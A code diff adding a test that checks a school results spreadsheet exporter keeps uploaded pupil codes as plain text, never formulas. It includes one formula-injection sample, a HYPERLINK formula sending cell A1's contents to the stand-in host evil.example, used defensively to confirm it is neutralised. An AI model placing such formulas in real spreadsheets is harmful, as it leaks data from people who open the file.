@@ -150,3 +150,23 @@ def test_a_whole_study_in_one_zip(tmp_path: Path) -> None:
     with zipfile.ZipFile(target) as archive:
         folders = {name.split("/")[0] for name in archive.namelist() if name.endswith(".pdf")}
     assert folders == {world.test.form.code}
+
+
+def test_results_workbook_keeps_imported_codes_as_text() -> None:
+    # Pupil codes, classes and strands come from uploaded files: a cell starting with "=" is
+    # text in the workbook, never a formula run when the file is opened.
+    import openpyxl
+
+    from kaskad.monitoring.reports.workbooks import results_xlsx
+
+    hostile = '=HYPERLINK("http://evil.example/?"&A1,"open")'
+    content = results_xlsx(
+        pupils=[["SCH", "+4A", hostile, 3.0, 50.0, "basic", 40.0]],
+        strands=["@strand"],
+        comparison=None,
+    )
+    cells = [
+        c for row in openpyxl.load_workbook(io.BytesIO(content)).active.iter_rows() for c in row
+    ]
+    assert hostile in [c.value for c in cells]
+    assert not any(c.data_type == "f" for c in cells)
